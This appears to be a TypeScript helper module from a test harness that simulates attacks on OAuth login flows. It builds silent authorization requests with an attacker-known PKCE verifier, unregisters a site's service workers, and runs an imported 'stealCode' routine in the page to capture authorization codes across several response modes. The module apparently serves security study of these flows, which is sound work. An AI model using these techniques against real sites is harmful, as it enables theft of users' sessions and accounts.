import { createHash } from 'node:crypto';
import type { Scene } from '../scene.ts';
import { PLAIN_PAGE } from '../site.ts';
import { until } from '../until.ts';
import { stealCode, type WayToACode } from './own-flow.ts';

/** The attacker's own code verifier. */
export const VERIFIER: string = 'a-verifier-that-the-attacker-has-made-up-and-knows';

/** An authorization request of the attacker's, which asks for no page where the user is signed in at the server. */
export function authorizeUrl({ servers, site }: Scene, parameters: Readonly<Record<string, string>> = {}): string {
  const { origin, clientId } = servers.authorizationServer;
  const query = new URLSearchParams({
    client_id: clientId,
    redirect_uri: site.redirectUri,
    response_type: 'code',
    scope: 'openid',
    prompt: 'none',
    state: 'attacker',
    code_challenge: createHash('sha256').update(VERIFIER).digest('base64url'),
    code_challenge_method: 'S256',
    ...parameters,
  });
  return `${origin}/auth?${query}`;
}

/** Script in the page ends the worker, and opens a page that no worker controls. */
export async function endWorker({ tab, site }: Scene): Promise<void> {
  await tab.evaluate(async () => {
    for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister();
  });
  await tab.goto(site.origin + PLAIN_PAGE);
}

/** The user clicks, until script that waits for it has seen it. */
export async function clickUntilSeen({ tab }: Scene): Promise<void> {
  await until('the page has seen a click', async () => {
    await tab.click();
    return tab.evaluate(() => document.documentElement.dataset['clicked'] === 'yes');
  });
}

/** How the response of a flow comes, other than in the query. */
export const MODES = { fragment: 'in the fragment', 'query.jwt': 'in a JWT', web_message: 'in a message' } as const;

/** One of {@link MODES}. */
export type Mode = keyof typeof MODES;

/**
 * Runs a flow in a way, from a page that the attacker's script is in.
 *
 * @returns all addresses and messages that were seen
 */
export async function stealOwnCode(scene: Scene, way: WayToACode, mode?: Mode): Promise<unknown> {
  const opensWindows = way.includes('pop-up');
  const url = authorizeUrl(scene, mode && { response_mode: mode });
  const stolen = scene.tab.evaluate(stealCode, { way, url, opensWindows, timeoutMs: scene.timeoutMs });
  await (opensWindows ? Promise.race([stolen, clickUntilSeen(scene)]) : undefined);
  return stolen;
}
